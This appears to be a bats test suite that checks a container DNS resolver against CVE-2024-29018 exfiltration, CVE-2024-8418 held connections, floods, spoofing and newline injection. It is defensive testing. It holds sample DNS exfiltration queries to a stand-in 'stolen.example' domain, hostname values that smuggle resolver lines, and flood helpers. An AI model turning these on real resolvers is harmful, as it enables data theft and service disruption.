#!/usr/bin/env bats
# Attacks on names out of real containers: security/ATTACKS.md rows 85 and 87, and what a container can do to its own resolver.

load helper
load ../live/hosts
load ../live/names/names
load ../live/names/host

setup() { names_host_make && hoy network create --subnet 10.1.0.0/24 blue >/dev/null; }
teardown() { names_host_end; }

hammer() { nsenter -t "$(pid_of "$1")" -n timeout 120 "$NAMES/hammer.py" "${@:2}"; }

@test "85 CVE-2024-29018: nothing that a container of an internal network asks for leaves the host" {
	hoy network create --internal --subnet 10.4.0.0/24 closed >/dev/null
	hoy run -d --name spy --network closed busybox sleep 1000 >/dev/null
	# As its own programs do it, by UDP and by TCP, with --dns, with search domains, and by the servers of the host themselves.
	hoy exec spy nslookup 0123456789.stolen.example || true
	hoy exec spy nslookup -type=txt 0123456789.stolen.example || true
	hoy exec spy nslookup 0123456789.stolen.example 127.0.0.53 || true
	hoy exec spy nslookup 0123456789.stolen.example 10.4.0.1 || true
	is "$(status spy 0123456789.stolen.example +tcp)" NXDOMAIN
	hoy run --rm --network closed --dns 127.0.0.53 --dns-search stolen.example busybox nslookup 0123456789 || true
	is "$(log)" ""
	# An open one may.
	box free
	is "$(short free free.example)" 192.0.2.7
	is "$(log)" "udp free.example A"
}

@test "87 CVE-2024-8418: a container that holds half a question on every connection slows nobody" {
	box web
	box slow
	hammer slow slow 8 >"$D/slow" 3>&- &
	local slow=$! begin ms
	started $slow
	eventually grep -q held "$D/slow"
	begin=${EPOCHREALTIME/./}
	is "$(short web slow +tcp)" 10.1.0.3
	is "$(short web x.example +tcp)" 192.0.2.7
	ms=$(((${EPOCHREALTIME/./} - begin) / 1000))
	[ $ms -lt 5000 ]
	has "$(hoy exec slow nslookup web)" "Address: 10.1.0.2"
	wait $slow
	is "$(tail -1 "$D/slow")" 8
}

@test "a container that floods its resolver keeps no other from starting, ending and being found" {
	box bad
	hammer bad flood 50000 flood.example >/dev/null 3>&- &
	local flood=$!
	started $flood
	box web
	is "$(short web bad)" 10.1.0.2
	hoy rm -f bad >/dev/null
	is "$(short web web)" 10.1.0.3
	is "$(short web missing-bad.example)" ""
	wait $flood || true
}

@test "names that a container is given cannot be other lines of what hoy-dns is told" {
	box web --hostname "$(printf 'h\nserver 127.0.0.66')" 2>/dev/null || box web
	box evil --network-alias "$(printf 'x\nname web')" 2>/dev/null || box evil
	is "$(short evil web)" 10.1.0.2
	is "$(short web evil)" 10.1.0.3
}

@test "a container cannot be asked for in another's place, nor hear what others ask" {
	box web
	box thief --network-alias other --cap-add NET_ADMIN --cap-add NET_RAW
	# The address is its own loopback's: taking it, or routing it, changes nothing for anybody else.
	nsenter -t "$(pid_of thief)" -n ip addr add 127.0.0.11/32 dev eth0
	nsenter -t "$(pid_of thief)" -n ip addr add 10.1.0.2/32 dev lo
	is "$(short web other)" 10.1.0.3
	is "$(short web web)" 10.1.0.2
	# Not through the bridge, whatever it claims to come from.
	fails 9 nsenter -t "$(pid_of web)" -n timeout 20 dig +tries=1 +time=1 @10.1.0.3 web
	fails 9 nsenter -t "$(pid_of web)" -n timeout 20 dig +tries=1 +time=1 @10.1.0.1 web
}
